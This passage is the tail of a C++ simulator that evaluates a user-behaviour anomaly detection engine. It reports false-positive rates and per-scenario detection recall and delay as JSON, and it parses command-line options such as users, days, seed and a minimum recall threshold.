      all_user_days ? 100.0 * benign_alerts_after_7 / all_user_days : 0.0,
      all_benign_events ? 100.0 * benign_alerts_after_7 / all_benign_events : 0.0);
  std::printf("  \"recurrences_learned\": %llu,\n",
              static_cast<unsigned long long>(st.recurrences));
  std::printf("  \"false_positives\": [\n");
  for (size_t i = 0; i < windows.size(); ++i) {
    const auto& w = windows[i];
    if (w.to > opt_.days) continue;
    std::printf(
        "    {\"after_days_of_learning\": %d, \"window_days\": %d, \"benign_user_days\": %llu, "
        "\"benign_events\": %llu, \"alerts\": %llu, \"per_user_day_pct\": %.4f, "
        "\"per_event_pct\": %.6f}%s\n",
        w.from, w.to - w.from, static_cast<unsigned long long>(w.user_days),
        static_cast<unsigned long long>(w.events), static_cast<unsigned long long>(w.alerts),
        w.user_days ? 100.0 * w.alerts / w.user_days : 0.0,
        w.events ? 100.0 * w.alerts / w.events : 0.0,
        i + 1 < windows.size() && windows[i + 1].to <= opt_.days ? "," : "");
  }
  std::printf("  ],\n  \"scenarios\": [\n");
  int detected_all = 0, total_sc = 0;
  for (int type = 1; type <= 6; ++type) {
    int n = 0, det = 0;
    double delay_sum = 0, ev_sum = 0;
    for (const auto& sc : scenarios_) {
      if (sc.type != type) continue;
      ++n;
      if (sc.detected_ns != 0) {
        ++det;
        delay_sum += static_cast<double>(sc.detected_ns - sc.first_ns) / kSec;
        ev_sum += sc.detected_after_events;
      }
    }
    detected_all += det;
    total_sc += n;
    std::printf(
        "    {\"type\": %d, \"name\": \"%s\", \"injected\": %d, \"detected\": %d, \"recall\": "
        "%.3f, \"mean_delay_s\": %.1f, \"mean_events_until_alert\": %.1f}%s\n",
        type, kScenarioNames[type], n, det, n ? static_cast<double>(det) / n : 0.0,
        det ? delay_sum / det : 0.0, det ? ev_sum / det : 0.0, type < 6 ? "," : "");
  }
  recall_ = total_sc ? static_cast<double>(detected_all) / total_sc : 0.0;
  std::printf("  ],\n  \"recall\": %.3f,\n", recall_);
  std::printf("  \"false_positive_rules\": {");
  bool first = true;
  for (const auto& [rule, n] : fp_by_rule) {
    std::printf("%s\"%s\": %llu", first ? "" : ", ", rule.c_str(),
                static_cast<unsigned long long>(n));
    first = false;
  }
  std::printf("}\n}\n");
  if (!opt_.quiet) {
    for (const auto& x : fp_examples) std::fprintf(stderr, "FP example: %s\n", x.c_str());
  }
}

}  // namespace

int main(int argc, char** argv) {
  Options o;
  std::string state_file;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    auto next = [&]() -> std::string {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "orgsim: %s needs a value\n", a.c_str());
        std::exit(2);
      }
      return argv[++i];
    };
    if (a == "--users") {
      o.users = std::stoi(next());
    } else if (a == "--days") {
      o.days = std::stoi(next());
    } else if (a == "--seed") {
      o.seed = std::stoull(next());
    } else if (a == "--scenarios") {
      o.scenarios_per_type = std::stoi(next());
    } else if (a == "--min-recall") {
      o.min_recall = std::stod(next());
    } else if (a == "--quiet") {
      o.quiet = true;
    } else {
      std::fprintf(stderr,
                   "usage: orgsim [--users N] [--days D] [--seed S] [--scenarios PER_TYPE] "
                   "[--min-recall R] [--quiet]\n");
      return 2;
    }
  }
  auto cfg = config::load_default();
  if (!cfg) {
    std::fprintf(stderr, "orgsim: %s\n", cfg.error().to_string().c_str());
    return 1;
  }
  auto engine = ueba::Engine::create(cfg->baselines, "", 0);
  if (!engine) {
    std::fprintf(stderr, "orgsim: %s\n", engine.error().to_string().c_str());
    return 1;
  }
  Sim sim(o, **engine);
  sim.run();
  if (o.min_recall >= 0 && sim.recall_ < o.min_recall) {
    std::fprintf(stderr, "orgsim: recall %.3f is below --min-recall %.3f\n", sim.recall_,
                 o.min_recall);
    return 1;
  }
  return 0;
}
